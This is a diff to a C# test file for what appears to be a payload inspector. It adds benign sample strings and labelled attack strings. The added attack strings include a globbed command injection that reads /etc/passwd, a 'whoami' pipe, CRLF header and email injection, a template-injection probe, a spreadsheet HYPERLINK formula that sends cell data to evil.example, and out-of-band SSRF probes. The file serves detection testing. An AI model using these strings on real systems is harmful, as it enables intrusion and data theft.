@@ -156,6 +156,8 @@ public sealed class PayloadInspectorTests
         "../img/hero.webp",
         "« Newer | Older »  << Start | End >>",
         "//book[not(self::magazine)]",
+        "sftp://files.bank-example.com:22/outbound/MT940_001.txt",
+        "Where? Who? Why? — the 5 Ws of reporting",
     ];
 
     public static TheoryData<string, InspectionCategory> Attacks() => new()
@@ -350,6 +352,14 @@ public sealed class PayloadInspectorTests
         { "/actuator/heapdump", InspectionCategory.Lfi },
         { "/cgi-bin/../../bin/sh", InspectionCategory.Lfi },
         { "../config.php", InspectionCategory.Lfi },
+        { "; ca? /e??/pa*wd", InspectionCategory.Cmdi },
+        { "x|wh?ami", InspectionCategory.Cmdi },
+        { "{\"note\":\"en\\r\\nX-Forwarded-For: 127.0.0.1\"}", InspectionCategory.Crlf },
+        { "${7*'7'}", InspectionCategory.Ssti },
+        { "jdoe\r\nSubject: reset your password", InspectionCategory.Crlf },
+        { "\r=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", InspectionCategory.Code },
+        { "ping -c 1 a9x8.oastify.com", InspectionCategory.Ssrf },
+        { "\\\\q1w2.oast.pro\\share\\x", InspectionCategory.Ssrf },
     };
 
     [Theory]
